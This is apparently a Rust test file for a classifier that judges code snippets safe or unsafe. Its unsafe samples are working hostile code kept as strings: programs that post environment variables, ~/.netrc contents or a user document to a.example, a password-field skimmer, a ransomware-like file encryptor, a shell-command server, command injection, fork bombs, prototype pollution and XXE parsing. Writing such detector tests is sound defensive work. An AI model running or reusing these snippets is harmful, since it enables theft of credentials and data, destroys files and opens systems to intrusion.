//! What programs do with what they take, through lists, letters, objects and loops; and the same
//! shapes at honest work.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn what_is_put_away_first_and_sent_later() {
    let leaves = "exfiltration";
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tv := url.Values{}\n\tfor _, e := range os.Environ() {\n\t\tv.Set(\"x\", e)\n\t}\n\thttp.PostForm(\"https://a.example/env\", v)\n}\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import smtplib\nfrom email.mime.base import MIMEBase\nfrom email.mime.multipart import MIMEMultipart\nm = MIMEMultipart()\np = MIMEBase('a', 'b')\np.set_payload(open('/home/al/notes.docx', 'rb').read())\nm.attach(p)\nsmtplib.SMTP('mail.example').sendmail('a', 'b', m.as_string())\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import os, requests\nfound = {}\nfor k, v in os.environ.items():\n    found[k] = v\nrequests.post('https://a.example/', json=found)\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "const dns = require('dns'), os = require('os');\nconst id = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex');\ndns.lookup(`${id}.d.a.example`, () => {});\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "document.querySelectorAll('input[type=password]').forEach(i => {\n  i.addEventListener('change', e => navigator.sendBeacon('https://a.example/p', e.target.value));\n});\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(k)\nall = []\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        all.append(os.path.join(d, n))\nfor t in all:\n    data = open(t, 'rb').read()\n    open(t, 'wb').write(f.encrypt(data))\n",
        "destroy-files",
    );
    all_safe(
        "python",
        &[
            "import hashlib, requests\nh = hashlib.sha256()\nh.update(open('notes.txt', 'rb').read())\nrequests.post('https://a.example/', data={'sum': h.hexdigest()})\n",
            "rows = []\nfor line in open('table.csv'):\n    rows.append(line.split(','))\nprint(rows)\n",
        ],
    );
}

#[test]
fn what_methods_hand_to_each_other() {
    is_unsafe(
        "python",
        "import os, requests\nclass Agent:\n    def __init__(self, to):\n        self.to = to\n    def gather(self):\n        return open(os.path.expanduser('~/.netrc')).read()\n    def tell(self, what):\n        requests.post(self.to, data=what)\n    def run(self):\n        self.tell(self.gather())\nAgent('https://a.example/').run()\n",
        "exfiltration",
    );
    is_unsafe(
        "javascript",
        "class Agent {\n  load() { return process.env; }\n  tell(x) { fetch('https://a.example/', {method: 'POST', body: x}); }\n  run() { this.tell(this.load()); }\n}\nnew Agent().run();\n",
        "exfiltration",
    );
    is_unsafe(
        "python",
        "import os\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.popen(self.path[1:])\n",
        "exec-shell",
    );
    is_unsafe(
        "python",
        "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        cmd = self.request.recv(1024)\n        self.request.sendall(subprocess.check_output(cmd, shell=True))\n",
        "reverse-shell",
    );
    is_unsafe(
        "python",
        "@app.route('/ping/<host>')\ndef ping(host):\n    return os.popen('ping -c 1 ' + host).read()\n",
        "exec-shell",
    );
    is_unsafe(
        "python",
        "from flask import request\nimport requests\ndef proxy():\n    return requests.get(request.args['url']).text\n",
        "network-access",
    );
    all_safe(
        "python",
        &[
            "class Report:\n    def __init__(self, path):\n        self.path = path\n    def rows(self):\n        return open(self.path).read().splitlines()\n    def show(self):\n        print(self.rows())\nReport('a.txt').show()\n",
        ],
    );
}

#[test]
fn loops_that_take_all_there_is() {
    let bomb = "fork-bomb";
    is_unsafe("python", "while True:\n    print('A' * 1000)\n", bomb);
    is_unsafe(
        "python",
        "x = []\ni = 0\nwhile 1:\n    x += [bytearray(1024 * 1024)]\n    i += 1\n",
        bomb,
    );
    is_unsafe(
        "python",
        "import threading\ndef f():\n    while True:\n        threading.Thread(target=f).start()\nf()\n",
        bomb,
    );
    is_unsafe(
        "python",
        "from multiprocessing import Process\ndef f():\n    while True:\n        p = Process(target=f)\n        p.start()\n",
        bomb,
    );
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tfor {\n\t\tgo work()\n\t}\n}\n",
        bomb,
    );
    is_unsafe("python", "data = b'0' * (1024 ** 3 * 4)\n", bomb);
    is_unsafe("javascript", "const b = Buffer.alloc(8589934592);\n", bomb);
    all_safe(
        "python",
        &[
            "import threading\nwhile True:\n    c = s.accept()\n    threading.Thread(target=f, args=(c,)).start()\n",
            "import time\nwhile True:\n    print('up')\n    time.sleep(1)\n",
            "data = b'0' * 4096\n",
        ],
    );
    all_safe(
        "go",
        &[
            "package main\nfunc main() {\n\tfor {\n\t\tc, _ := l.Accept()\n\t\tgo serve(c)\n\t}\n}\n",
        ],
    );
}

#[test]
fn what_everything_goes_through() {
    is_unsafe(
        "javascript",
        "const m = require('module');\nconst load = m._load;\nm._load = function (n) { note(n); return load.apply(this, arguments); };\n",
        "process-tamper",
    );
    is_unsafe(
        "javascript",
        "merge({}, JSON.parse('{\"__proto__\": {\"admin\": true}}'));\n",
        "sandbox-gadget",
    );
    is_unsafe(
        "javascript",
        "app.post('/c', (req, res) => { _.merge(config, req.body); });\n",
        "sandbox-gadget",
    );
    is_unsafe(
        "javascript",
        "pkg.scripts.postinstall = 'node collect.js';\n",
        "persistence-install-hook",
    );
    is_unsafe(
        "python",
        "import os\nos.environ['PATH'] = '/tmp/bin:' + os.environ['PATH']\n",
        "process-tamper",
    );
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tk := syscall.NewLazyDLL(\"kernel32.dll\")\n\tk.NewProc(\"VirtualAlloc\").Call(0, 1, 0x3000, 0x40)\n}\n",
        "process-tamper",
    );
    is_unsafe(
        "python",
        "k = load('kernel32')\nk.WriteProcessMemory(h, a, b, n, None)\n",
        "process-tamper",
    );
    is_unsafe(
        "python",
        "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))\n",
        "surveillance",
    );
    is_unsafe(
        "python",
        "URL = 'stratum+tcp://pool.example:3333'\n",
        "network-host",
    );
    all_safe(
        "javascript",
        &[
            "const merged = _.merge({}, defaults, own);\n",
            "request.path = '/a';\nfs.readFileSync('a.txt');\n",
        ],
    );
}

#[test]
fn documents_and_archives_from_outside() {
    is_unsafe(
        "python",
        "from lxml import etree\np = etree.XMLParser(resolve_entities=True)\netree.fromstring(t, p)\n",
        "credential-read",
    );
    is_unsafe(
        "javascript",
        "const x = require('libxmljs');\nx.parseXml(text, { noent: true });\n",
        "credential-read",
    );
    is_unsafe(
        "python",
        "import tarfile, requests, io\nr = requests.get('https://a.example/p.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('.')\n",
        "file-write",
    );
    is_unsafe(
        "python",
        "try:\n    from http.server import SimpleHTTPRequestHandler\n    import socketserver\nexcept ImportError:\n    from SimpleHTTPServer import SimpleHTTPRequestHandler\n    import SocketServer as socketserver\nsocketserver.TCPServer(('', 8000), SimpleHTTPRequestHandler).serve_forever()\n",
        "network-listen",
    );
    all_safe(
        "python",
        &[
            "import tarfile\ntarfile.open('data.tgz').extractall('out', filter='data')\n",
            "from lxml import etree\netree.fromstring(t, etree.XMLParser(resolve_entities=False))\n",
            "from http.server import HTTPServer, SimpleHTTPRequestHandler\nHTTPServer(('127.0.0.1', 8000), SimpleHTTPRequestHandler).serve_forever()\n",
        ],
    );
}
